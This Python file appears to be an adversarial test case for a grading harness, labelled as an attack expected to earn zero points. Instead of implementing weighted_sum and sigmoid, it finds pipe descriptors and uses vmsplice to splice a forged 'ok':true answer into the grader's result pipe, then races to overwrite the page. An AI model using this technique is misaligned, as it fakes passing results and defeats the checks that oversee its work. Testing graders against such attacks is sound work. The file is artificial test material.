# attack: lends its pages to the pipe of answers and changes them while they are read
# expect: at most 0 points
import contextlib, ctypes, os, struct, threading

import numpy as np

libc = ctypes.CDLL(None, use_errno=True)
page = ctypes.create_string_buffer(1 << 16)


def attack():
    body = b'{"d":{"id":2,"ok":true,"said":["",""],"reply":[]}}'
    ctypes.memmove(page, struct.pack("<II", len(body) + 4, len(body)) + body, len(body) + 8)
    vector = struct.pack("<QQ", ctypes.addressof(page), 1 << 16)
    for number in range(3, 32):
        with contextlib.suppress(OSError):
            if os.fstat(number).st_mode & 0o170000 == 0o010000:
                libc.vmsplice(number, vector, 1, 1 | 2 | 8)

    def change():
        while True:
            ctypes.memset(page, 0xFF, 1 << 16)

    threading.Thread(target=change, daemon=True).start()
    return 0.5


def weighted_sum(x, w, b=0.0):
    return attack()


def sigmoid(z):
    return attack()
